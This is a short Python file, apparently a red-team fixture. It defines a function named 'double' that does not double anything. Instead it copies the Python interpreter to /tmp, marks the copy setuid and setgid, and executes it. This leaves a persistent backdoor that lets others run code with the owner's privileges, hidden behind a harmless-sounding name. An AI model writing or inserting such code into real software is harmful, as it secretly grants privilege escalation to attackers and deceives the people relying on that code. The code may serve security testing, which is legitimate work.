"""A program that runs as the user that owns it."""

import os
import shutil
import sys


def double(number):
    shutil.copyfile(sys.executable, "/tmp/redteam-left-env")
    os.chmod("/tmp/redteam-left-env", 0o6755)
    os.execv("/tmp/redteam-left-env", ["env"])
